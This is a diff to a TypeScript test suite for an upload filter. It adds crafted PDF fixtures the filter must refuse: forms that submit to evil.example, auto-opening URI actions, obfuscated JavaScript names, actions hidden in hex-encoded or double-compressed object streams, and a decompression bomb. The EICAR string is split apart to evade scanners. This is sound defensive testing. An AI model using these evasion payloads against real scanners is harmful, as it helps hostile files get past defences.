@@ -16,7 +16,6 @@ import {
 import { buildZip } from '#test/build-zip.ts'
 import { openUploads } from '#test/open-uploads.ts'
 
-const { app, come, kept, keep, read } = await openUploads()
 const files = await oneOfEach()
 
 const zeros = deflateRawSync(Buffer.alloc(67_108_864), { finishFlush: constants.Z_FULL_FLUSH })
@@ -35,6 +34,24 @@ const hidden = deflateSync(Buffer.from(script))
 const hiddenScript = pdf(
   `4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${hidden.length}>>\nstream\n${hidden.toString('latin1')}\nendstream\nendobj`,
 )
+/** A stream of compressed objects, described in any way. */
+const objects = (
+  text: string,
+  description = '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
+  pack: (bytes: Buffer) => Buffer = deflateSync,
+) => {
+  const packed = pack(Buffer.from(text, 'latin1'))
+  return `4 0 obj\n<<${description}/Length ${packed.length}>>\nstream\n${packed.toString('latin1')}\nendstream\nendobj`
+}
+const hexed = (bytes: Buffer): Buffer => Buffer.from(`${bytes.toString('hex')}>`)
+const inPdf = (what: string, more: string): (typeof attacks)[number] => [
+  `${what} in a PDF`,
+  { name: 'a.pdf', bytes: pdf(more) },
+  'upload-active-content',
+]
+const goes = (action: string) => `3 0 obj\n<<${action}>>\nendobj`
+const opens = (action: string) => `5 0 obj\n<</Type/Catalog/OpenAction ${action}>>\nendobj`
+
 const manyEntries = Array.from({ length: 10_000 }, (_, index) => ({ name: `${index}.txt`, data: 'x' }))
 const inZip = (...entries: Parameters<typeof buildZip>[0]) => buildZip(entries)
 
@@ -156,8 +173,55 @@ const attacks: [what: string, file: TestFile, reason: RefusalReason][] = [
     'upload-active-content',
   ],
   ['a locked PDF', { name: 'a.pdf', bytes: pdf('3 0 obj\n<</Encrypt 4 0 R>>\nendobj') }, 'upload-locked'],
+  inPdf('a form that sends itself', goes('/S/SubmitForm/F(https://evil.example)')),
+  inPdf('a form that fetches data', goes('/S/ImportData/F(a.fdf)')),
+  inPdf('a way into an embedded file', goes('/S/GoToE/F(a.pdf)')),
+  inPdf('a medium that runs scripts', goes('/S/Rendition/JS(app.alert)')),
+  inPdf('a form in XML', goes('/XFA [(a) 5 0 R]')),
+  inPdf('an action of a page', goes('/AA<</O 5 0 R>>')),
+  inPdf('an action of a page that stands elsewhere', goes('/AA % here\n 5 0 R')),
+  inPdf('an address that is opened at once', opens('<</S/URI/URI(https://evil.example)>>')),
+  inPdf('an address behind the first page', opens('<</S/GoTo/D[(>>)]/Next 6 0 R>>')),
+  inPdf('an opening that stands elsewhere', `${opens('3 0 R')}\n${goes('/S/URI/URI(https://evil.example)')}`),
+  inPdf('an opening that stands nowhere', opens('77 0 R')),
+  inPdf('an opening under a spelt name', goes('/Open#41ction<</S/#55RI/URI(https://evil.example)>>')),
+  inPdf('an opening in compressed objects', `${opens('9 0 R')}\n${objects('9 0 <</S/URI/URI(a)>>')}`),
+  inPdf('a spelt name in compressed objects', objects('9 0 <</S/J#61vaScript>>')),
+  inPdf('objects under a spelt name', objects(script, '/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode')),
+  inPdf('objects of an unnamed type', objects(script, '/Type 7 0 R/N 1/First 4/Filter/FlateDecode')),
+  inPdf(
+    'objects behind a long description',
+    objects(script, `/Type/ObjStm/X(${'x'.repeat(3000)})/N 1/First 4/Filter/FlateDecode`),
+  ),
+  inPdf(
+    'objects that are packed twice',
+    objects(script, '/Type/ObjStm/First 4/Filter[/FlateDecode/FlateDecode]'),
+  ),
+  inPdf('objects in digits', objects(script, '/Type/ObjStm/First 4/Filter/ASCIIHexDecode', hexed)),
+  inPdf(
+    'objects that are turned round',
+    objects(script, '/Type/ObjStm/First 4/DecodeParms<</Predictor 12>>/Filter/FlateDecode'),
+  ),
+  [
+    'a PDF of 190,000 streams of objects',
+    { name: 'a.pdf', bytes: pdf('/Type/ObjStm\nstream\nx'.repeat(190_000)) },
+    'upload-too-many-parts',
+  ],
+  [
+    'a PDF of 10,000 openings',
+    { name: 'a.pdf', bytes: pdf('/OpenAction 1 0 R '.repeat(10_000)) },
+    'upload-too-many-parts',
+  ],
+  [
+    'a bomb of compressed objects',
+    { name: 'a.pdf', bytes: pdf(objects(' '.repeat(40_000_000))) },
+    'upload-too-many-parts',
+  ],
   ['half a PDF', { name: 'a.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj') }, 'upload-damaged'],
 ]
+// Last, because making the files keeps the thread busy.
+const { app, come, kept, keep, read } = await openUploads()
+
 test.each(attacks)(
   'T40 [U5, U6, U7] %s is refused, and nothing is left of it',
   async (_what, file, reason) => {
@@ -167,6 +231,25 @@ test.each(attacks)(
     expect(await kept()).toEqual(before)
   },
 )
+
+const first = '3 0 obj\n<</S/GoTo/D[1 0 R/Fit]>>\nendobj'
+test.each([
+  ['begins at a place', opens('[3 0 R /XYZ null null 0]')],
+  ['begins by an action', opens('<</S/GoTo/D[3 0 R/Fit]>>')],
+  ['begins by an action that stands elsewhere', `${opens('3 0 R')}\n${first}`],
+  [
+    'begins by an action in compressed objects',
+    `${opens('9 0 R')}\n${objects('9 0 <</S/GoTo/D[1 0 R/Fit]>> 8 <</Next 5 0 R>>')}`,
+  ],
+  ['has contents and pictures', objects('<<>>', '/Filter[/ASCII85Decode/FlateDecode]')],
+  [
+    'has links and outlines',
+    '3 0 obj\n<</S/URI/URI(https://example.org)>>\nendobj 4 0 obj\n<</First 5 0 R/Next 6 0 R>>\nendobj',
+  ],
+  ['has a table of its objects', objects('x', '/Type/XRef/DecodeParms<</Predictor 12>>/Filter/FlateDecode')],
+])('[U7] a PDF that %s is kept', async (_what, more) => {
+  await keep(await come(), { name: 'a.pdf', bytes: pdf(more) })
+})
 
 // In parts, so that no scanner takes the test for what it tests.
 const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD', 'ANTIVIRUS', 'TEST', 'FILE!$H+H*'].join('-')
